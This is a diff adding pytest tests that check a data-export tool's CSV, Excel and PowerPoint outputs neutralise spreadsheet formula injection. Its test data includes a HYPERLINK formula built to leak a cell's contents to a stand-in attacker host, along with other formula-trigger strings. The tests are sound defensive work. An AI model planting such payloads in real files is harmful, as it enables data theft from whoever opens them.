@@ -8,18 +8,29 @@ tests/pages/test_security_pages.py.
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import shutil
 import sqlite3
 import stat
+import zipfile
 from collections.abc import Callable
 from pathlib import Path
 
+import duckdb
+import openpyxl
 import pytest
 
+from xeploai import exports
 from xeploai.access.users import AuthError, AuthStore, auth_path
 from xeploai.cli import main
+from xeploai.domain.cells import FORMULA_STARTS
+from xeploai.domain.selection import Selection
+from xeploai.exports.tables import to_csv_bytes, to_xlsx_bytes
+from xeploai.ingest import workbook
+from xeploai.screens import explorer
+from xeploai.store.database import Database
 
 Run = Callable[..., tuple[int, str, str]]
 
@@ -151,3 +162,72 @@ def test_the_users_and_sessions_file_is_readable_by_its_owner_only(
         assert not _others_may_read(loose)
     finally:
         os.umask(old)
+
+
+# --- 5.3 formula injection ------------------------------------------------------------------
+
+# Names an attacker could import (the probe's HYPERLINK among them); each must reach every
+# file as the same text, never as a formula.
+EVIL = ('=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào")', "+SUM(1;2)", "-2+3", "@cmd",
+        "\t=1+1")
+EVIL_NAMES = set(EVIL)
+
+
+@pytest.fixture(scope="module")
+def evil_db_path(demo_db_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The demo with five base organizations renamed to what a spreadsheet would run."""
+    path = tmp_path_factory.mktemp("evil") / "evil.duckdb"
+    shutil.copy(demo_db_path, path)
+    with duckdb.connect(path) as conn:
+        # the five weakest of 2024 by members' share good or better: the deck charts them
+        codes = [code for (code,) in conn.execute(
+            "select org_code from base_org_rows where year = 2024 and members_evaluated > 0"
+            " order by (members_htxsnv + members_httnv) / members_evaluated, org_code"
+            " limit 5").fetchall()]
+        for table in ("organizations", "org_spells", "org_years", "base_org_facts"):
+            for code, name in zip(codes, EVIL, strict=True):
+                conn.execute(f"update {table} set org_name = ? where org_code = ?", [name, code])
+    return path
+
+
+def _formula_cells(book_bytes: bytes) -> list[str]:
+    book = openpyxl.load_workbook(io.BytesIO(book_bytes))
+    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in book.worksheets
+            for row in ws.iter_rows() for c in row if c.data_type == "f"]
+
+
+def _texts(book_bytes: bytes) -> set[str]:
+    book = openpyxl.load_workbook(io.BytesIO(book_bytes))
+    return {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
+            if isinstance(c.value, str)}
+
+
+def test_tra_cuu_downloads_keep_formula_like_names_as_text(evil_db_path: Path) -> None:
+    with Database(evil_db_path, read_only=True) as db:
+        screen = explorer.build(db, Selection(from_year=2016, to_year=2024))
+    assert screen.download is not None
+    book = to_xlsx_bytes(screen.download, "Tra cứu")
+    assert _formula_cells(book) == []
+    assert _texts(book) >= EVIL_NAMES  # the names as written, nothing else
+    text = to_csv_bytes(screen.download).decode("utf-8-sig")
+    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
+    assert not [f for f in fields if f.startswith(FORMULA_STARTS)]
+    for name in EVIL:
+        assert "'" + name in fields
+
+
+def test_every_file_the_product_writes_keeps_the_names_as_text(evil_db_path: Path,
+                                                               tmp_path: Path) -> None:
+    with Database(evil_db_path, read_only=True) as db:
+        table = exports.build("xlsx", db, 2024)
+        data = workbook.workbook_bytes(workbook.build_workbook(workbook.export_data(db)))
+        deck = exports.build("pptx", db, 2024)
+    # the conference table: its totals are the only formulas, and they are SUMs and IFs
+    assert all(f.split("=", 1)[1].startswith(("=SUM(", "=IF(")) for f in _formula_cells(table))
+    assert EVIL_NAMES & _texts(table)
+    assert _formula_cells(data) == [] and _texts(data) >= EVIL_NAMES
+    # the deck's charts carry their data as workbooks ("Edit Data" opens them in Excel)
+    with zipfile.ZipFile(io.BytesIO(deck)) as pptx:
+        embedded = [pptx.read(n) for n in pptx.namelist() if n.endswith(".xlsx")]
+    assert embedded and not [f for b in embedded for f in _formula_cells(b)]
+    assert EVIL_NAMES & {t for b in embedded for t in _texts(b)}
